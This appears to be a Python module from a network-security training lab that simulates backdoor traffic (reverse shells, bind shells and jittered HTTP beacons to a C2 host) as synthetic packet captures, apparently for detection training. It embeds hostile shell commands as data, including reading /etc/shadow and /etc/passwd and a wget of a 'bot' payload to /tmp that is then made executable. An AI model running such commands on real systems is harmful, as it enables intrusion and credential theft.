"""Backdoors: reverse and bind shells, and beacons calling home."""

from __future__ import annotations

import base64

from trainer.lab.ethernet.capture import Capture, Tcp
from trainer.lab.ethernet.payloads.http import BROWSER_UAS, http_request, http_response
from trainer.lab.ethernet.payloads.text import entropy_text
from trainer.lab.ethernet.site import Site, rtt


def atk_backdoor(cap: Capture, site: Site, t: float, n: int, label: str = "Backdoor") -> None:
    """Reverse and bind shells on unusual ports, and a beacon calling home with jitter."""
    rng = cap.rng
    victim = rng.choice([site.broker, site.web, *site.sensors, site.hmi])
    c2 = site.ext_attacker if rng.random() < 0.6 else site.attacker
    mode = rng.choice(["reverse", "bind", "beacon"])
    port = rng.choice([4444, 4445, 1337, 31337, 6666, 9001, 8443, 5555, 12345, rng.randint(1025, 65535)])
    cmds = [b"id", b"uname -a", b"whoami", b"cat /etc/passwd", b"ls -la /", b"ps aux", b"ifconfig",
            b"netstat -antp", b"wget http://x/bot -O /tmp/.x", b"chmod +x /tmp/.x", b"crontab -l", b"cat /etc/shadow"]
    count = len(cap.frames)
    if mode in ("reverse", "bind"):
        cli, srv = (victim, c2) if mode == "reverse" else (c2, victim)
        c = Tcp(cap, label, cli, srv, port, t, rtt(site, cli, srv))
        c.open()
        shell_side = mode == "reverse"  # the victim's side: client in a reverse shell, server in a bind shell
        c.send(shell_side, rng.choice([b"$ ", b"sh-4.4$ ", b"bash: no job control in this shell\n# ", b"# "]))
        while len(cap.frames) - count < n:
            c.t += rng.uniform(0.5, 8)
            c.send(not shell_side, rng.choice(cmds) + b"\n")
            c.t += rng.uniform(0.01, 0.3)
            c.send(shell_side, entropy_text(rng, rng.randint(10, 4000)) + b"\n# ")
        c.close(not shell_side)
    else:
        interval = rng.uniform(5, 60)
        while len(cap.frames) - count < n:
            c = Tcp(cap, label, victim, c2, port if rng.random() < 0.5 else rng.choice([80, 443, 8080]), t,
                    rtt(site, victim, c2))
            c.open()
            blob = base64.b64encode(rng.randbytes(rng.randint(16, 200))).decode()
            c.exchange(http_request(rng, "POST", c2.addr, rng.choice(["/submit.php", "/gate", "/api/v2/ping", "/"]),
                                    rng.choice(BROWSER_UAS), f"id={rng.randrange(10**8)}&d={blob}".encode()),
                       http_response(rng, 200, base64.b64encode(rng.randbytes(rng.randint(0, 60))), "text/plain",
                                     "nginx"), rng.uniform(0.01, 0.2))
            c.close(True)
            t += interval * rng.uniform(0.8, 1.2)
